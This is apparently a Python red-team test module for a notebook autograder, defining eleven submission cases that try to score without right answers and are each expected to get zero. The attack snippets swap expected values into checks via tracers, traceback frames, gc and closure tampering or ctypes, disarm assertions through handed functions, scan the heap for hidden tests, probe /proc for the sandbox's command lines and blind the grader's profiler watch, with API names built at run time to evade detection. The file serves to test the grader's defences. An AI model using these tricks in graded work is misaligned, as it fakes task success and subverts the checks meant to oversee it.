"""Red-team cases that inspect the checking code, or the grader's processes, from a submission.

Every case answers with zeros (wrong, array-shaped), so that whatever score it gets beyond 0 came
from the attack; each attack reaches for the check's frame, the clean room's recorder or the
grader's command lines with the API names assembled at run time, and hides its own errors
(``try/except``), so that only the grader's refusal or the real answers decide the score. Cases
that need nbgrader's kernel to pass first disarm ``course.checks`` there (the clean room undoes
that, and the attack must then work during the clean re-run to gain anything).
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable

from nbformat import NotebookNode

from redteam.corpus import (
    _DISARM,
    Case,
    Context,
    _cell,
    _function_names,
    _if_found,
    _notebook_case,
    complete,
    zeros,
)
from redteam.heap_scan import HEAP_SCAN

__all__ = ["CASES"]


def _armed(ctx: Context, attack: str, disarm: bool, answers: Callable[[Context], NotebookNode] = zeros) -> NotebookNode:
    """Zeros (or other `answers`) for every exercise; each function runs ``_attack()`` (defined in the
    first solution cell) when called, with the call's arguments in ``_attack.seen``."""
    nb = answers(ctx)
    for i, exercise in enumerate(ctx.assignment.exercises):
        cell = _cell(nb, exercise.solution_id)
        names = _function_names(ctx.assignment.cell(exercise.solution_id).source)
        wrappers = "\n".join(
            f"_plain_{n} = {n}\n\ndef {n}(*args, **kwargs):\n"
            f"    _attack.seen = [*args, *kwargs.values()]\n    _attack()\n    return _plain_{n}(*args, **kwargs)\n"
            for n in names
        )
        head = textwrap.dedent(attack) + (_DISARM if disarm else "") if i == 0 else ""
        cell.source = f"{head}\n{cell.source}\n\n{wrappers}"
    return nb


_TRACER = """
import sys as _s

def _tracer(frame, event, arg):
    if event == "call":
        local = frame.f_locals
        if frame.f_code.co_name.startswith("assert_") and "expected" in local:
            local["actual"] = local["expected"]  # the check compares the expected value with itself
        if frame.f_code.co_name == "record" and len(local.get("args", ())) >= 2:
            local["args"] = (local["args"][1],) + tuple(local["args"][1:])  # and the recorder keeps that
    return _tracer

def _attack():
    try:
        getattr(_s, "set" + "tr" + "ace")(_tracer)
    except Exception:
        pass
"""

_WATCH_REWRITE = """
import sys as _s
import threading as _t

def _attack():
    # by_hand's watch is reachable (sys.getprofile()): empty what it holds, then make a call every
    # exercise forbids (threading.setprofile), which only a switched-off watch would miss
    _hook = _s.getprofile()
    if _hook is None:
        return
    try:
        for _c in getattr(_hook, "__closure__", None) or ():
            if isinstance(_c.cell_contents, list):
                _c.cell_contents[:] = [False] if _c.cell_contents == [True] else []
        for _part in getattr(_hook, "__self__", ()):
            if isinstance(_part, list):
                _part.clear()
        _t.setprofile(_t.getprofile())
    except Exception:
        pass
"""

_UNWATCHED_THREAD = """
import sys as _s
import threading as _t

def _attack():
    # a thread that by_hand's watch does not reach: new threads take their profiler from a global
    if _s.getprofile() is None:
        return
    try:
        _t._profile_hook = None
        _thread = _t.Thread(target=_t.setprofile, args=(None,))
        _thread.start()
        _thread.join()
    except Exception:
        pass
"""

_TRACEBACK = """
def _attack():
    pass

class _Borrowed:
    \"\"\"An answer that, once the check converts it, hands back the check's own `expected`.\"\"\"

    def __init__(self, fallback):
        self.fallback = fallback

    def __array__(self, dtype=None, copy=None):
        import numpy
        try:
            raise RuntimeError
        except RuntimeError as err:
            frame = getattr(err.__traceback__, "tb_" + "frame")
        while frame is not None:
            if "expected" in frame.f_locals:
                return numpy.asarray(frame.f_locals["expected"], dtype=dtype)
            frame = frame.f_back
        return numpy.asarray(self.fallback, dtype=dtype)
"""

_GC = """
import gc as _gc

def _copy_expected(original):
    def check(*args, **kwargs):
        import numpy
        if len(args) >= 2 and isinstance(args[0], numpy.ndarray) and numpy.shape(args[0]) == numpy.shape(args[1]):
            numpy.copyto(args[0], numpy.asarray(args[1], dtype=args[0].dtype))  # in place: what is recorded too
        return original(*args, **kwargs)
    return check

def _attack():
    try:
        found = getattr(_gc, "get_" + "objects")()
    except Exception:
        return
    for thing in found:
        try:
            if type(thing).__name__ == "function" and thing.__name__ == "record" and thing.__closure__:
                for cell in thing.__closure__:
                    if getattr(cell.cell_contents, "__name__", "").startswith("assert_"):
                        cell.cell_contents = _copy_expected(cell.cell_contents)
        except Exception:
            pass
"""

_CLOSURE = """
import course.checks as _checks

def _attack():
    for name in ("assert_close", "assert_equal"):
        recorder = getattr(_checks, name)
        for cell in recorder.__closure__ or ():
            if callable(cell.cell_contents) and getattr(cell.cell_contents, "__name__", "") == name:
                cell.cell_contents = _copy_expected(cell.cell_contents)
"""

_CTYPES = """
import sys as _s

def _attack():
    try:
        api = getattr(__import__("c" + "types"), "python" + "api")
        get_frame = getattr(api, "PyEval_" + "GetFrame")
        get_frame.restype = __import__("c" + "types").py_object
        frame = get_frame()
        while frame is not None:
            frame.f_globals.update({k: v for k, v in frame.f_locals.items() if k == "expected"})
            frame = frame.f_back
    except Exception:
        pass
"""


_HANDED_FUNCTION = """
def _scopes(handed):
    for name in ("__glo" + "bals__", "__buil" + "tins__"):
        try:
            yield getattr(handed, name)
        except Exception:
            pass
    for path in (("__fu" + "nc__", "__glo" + "bals__"), ("__sel" + "f__", "__di" + "ct__")):
        try:
            yield getattr(getattr(handed, path[0]), path[1])
        except Exception:
            pass
    try:  # split: ask the tester directly, past the student side's own handle, which asks no dunder name
        peer = object.__getattribute__(handed, "_p" + "eer")
        target = object.__getattribute__(handed, "_t" + "arget")
        yield peer.call(target, ("__glo" + "bals__",), {}, op="getattr")
    except Exception:
        pass

def _attack():
    for handed in getattr(_attack, "seen", []):
        if not callable(handed):
            continue
        for scope in _scopes(handed):
            try:  # the test's own `checks`, in the test's globals: disarmed where the test runs
                checks = scope["checks"]
                for name in dir(checks):
                    if name.startswith("assert_"):
                        setattr(checks, name, lambda *a, **k: None)
            except Exception:
                pass
"""

_MEMORY_SCAN = (
    HEAP_SCAN
    + """
_SCANNED = []

def _attack():
    if not _SCANNED:  # once per process
        _SCANNED.append(_heap_scan()[0])
    if _SCANNED[0]:  # the test's error line is the student's to write, and shows in the feedback
        raise ValueError("hidden: " + _SCANNED[0][0])
"""
)


_BESIDE = (
    HEAP_SCAN
    + """
_BESIDE = []

def _beside():
    if not _BESIDE:  # once per process: is a hidden test in this process's heap? (the marker only: no key search)
        import numpy as _np
        marker = ("BEGIN HIDDEN" + " TESTS").encode()
        with open("/proc/self/maps") as f:
            maps = [e.split() for e in f.read().splitlines()]
        spans = [[int(x, 16) for x in e[0].split("-")] for e in maps if e[1].startswith("rw") and e[-1] == "[heap]"]
        _BESIDE.append(any(marker in _np.asarray(_Window(a, b - a)).tobytes() for a, b in spans))
    return _BESIDE[0]
"""
)


def _right_only_beside_tests(ctx: Context) -> NotebookNode:
    """The right answers, given only where the hidden tests are in the answers' own process; elsewhere an error."""
    nb = zeros(ctx)
    for i, exercise in enumerate(ctx.assignment.exercises):
        source = ctx.assignment.cell(exercise.solution_id).source
        wrappers = "\n".join(
            f"_right_{n} = {n}\n\ndef {n}(*args, **kwargs):\n    if not _beside():\n"
            f"        raise RuntimeError('no test beside me')\n    return _right_{n}(*args, **kwargs)\n"
            for n in _function_names(source)
        )
        head = textwrap.dedent(_BESIDE) if i == 0 else ""
        _cell(nb, exercise.solution_id).source = f"{head}\n{source}\n\n{wrappers}"
    return nb


def _traceback_answers(ctx: Context) -> NotebookNode:
    """Zeros that convert, inside the check, into whatever the check expects (through a traceback's frame)."""
    nb = _armed(ctx, _TRACEBACK, disarm=False)
    for exercise in ctx.assignment.exercises:
        cell = _cell(nb, exercise.solution_id)
        for n in _function_names(ctx.assignment.cell(exercise.solution_id).source):
            borrowed = f"def {n}(*args, **kwargs):\n    return _Borrowed(_zero_{n}(*args, **kwargs))\n"
            cell.source += f"\n\n_zero_{n} = {n}\n\n{borrowed}"
    return nb


def _proc_cmdline(ctx: Context) -> NotebookNode:
    """Right answers only if a process of the sandbox shows the grader's command line (bwrap's options, host paths)."""
    probe = f"""
    import os
    _FOUND = []
    for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            _line = open(f"/proc/{{_pid}}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
        except OSError:
            continue
        if "--ro-bind" in _line or "--tmpfs" in _line or {str(ctx.work)!r} in _line or "preload" in _line:
            _FOUND.append(_pid)
    print("grader command lines seen in processes:", _FOUND)
    """
    return _if_found(ctx, probe, lambda gid: ctx.assignment.cell(gid).source)


CASES = [
    Case("tracer_copies_expected", "wrong answers; a tracer (name built at run time) copies expected into actual",
         _notebook_case(lambda ctx: _armed(ctx, _TRACER, disarm=False)), "graded", "zero"),
    Case("traceback_frame_walk", "wrong answers that read the check's `expected` through __traceback__.tb_frame",
         _notebook_case(_traceback_answers), "graded", "zero"),
    Case("gc_walk_recorder", "wrong answers; a gc walk finds the recorder and makes its check copy expected in place",
         _notebook_case(lambda ctx: _armed(ctx, _GC, disarm=True)), "graded", "zero"),
    Case("closure_recorder", "wrong answers; the recorder's closure (no introspection API) copies expected in place",
         _notebook_case(lambda ctx: _armed(ctx, _GC + _CLOSURE, disarm=True)), "graded", "zero"),
    Case("ctypes_frames", "wrong answers; ctypes fetches the current frame to copy expected values around",
         _notebook_case(lambda ctx: _armed(ctx, _CTYPES, disarm=True)), "graded", "zero"),
    Case("proc_cmdline", "right answers only if /proc/<pid>/cmdline shows the grader's command lines",
         _notebook_case(_proc_cmdline), "graded", "zero"),
    Case("handed_function_globals", "wrong answers that reach the test's globals through a function the test hands "
         "them (a lambda as the activation), also by a forged request to the tester, and disarm its checks there",
         _notebook_case(lambda ctx: _armed(ctx, _HANDED_FUNCTION, disarm=False)), "graded", "zero"),
    Case("memory_scan_hidden_tests", "wrong answers that scan their process's heap (numpy on raw addresses) for the "
         "hidden tests and raise them as the error line (split tests: not in that process)",
         _notebook_case(lambda ctx: _armed(ctx, _MEMORY_SCAN, disarm=False)), "graded", "zero"),
    Case("byhand_watch_rewrite", "right answers that empty by_hand's watch (reached by sys.getprofile()) and then "
         "make a call every exercise forbids", _notebook_case(lambda ctx: _armed(ctx, _WATCH_REWRITE, False, complete)),
         "graded", "zero"),
    Case("byhand_unwatched_thread", "right answers that start a thread after clearing the profiler new threads take",
         _notebook_case(lambda ctx: _armed(ctx, _UNWATCHED_THREAD, False, complete)), "graded", "zero"),
    Case("right_only_beside_tests", "right answers only where a heap scan finds a hidden test in their process, "
         "else an error (split tests run again in one process: held for review, no points)",
         _notebook_case(_right_only_beside_tests), "graded", "zero"),
]  # fmt: skip
